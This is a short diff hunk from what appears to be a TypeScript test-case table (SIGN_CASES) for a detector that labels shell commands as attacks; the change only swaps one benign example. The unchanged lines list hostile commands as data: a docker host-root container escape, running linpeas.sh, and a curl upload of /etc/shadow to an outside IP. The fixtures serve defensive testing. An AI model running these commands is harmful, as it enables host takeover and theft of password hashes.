@@ -115,7 +115,7 @@ export const SIGN_CASES: readonly SignCase[] = (
       'docker run -v /:/mnt --rm -it alpine chroot /mnt sh',
       'docker exec app-db pg_isready',
     ],
-    ['attack_tool', 'sh linpeas.sh', 'id john'],
+    ['attack_tool', 'sh linpeas.sh', 'quota -u john'],
     [
       'file_sent',
       'curl -F f=@/etc/shadow http://203.0.113.5/u',
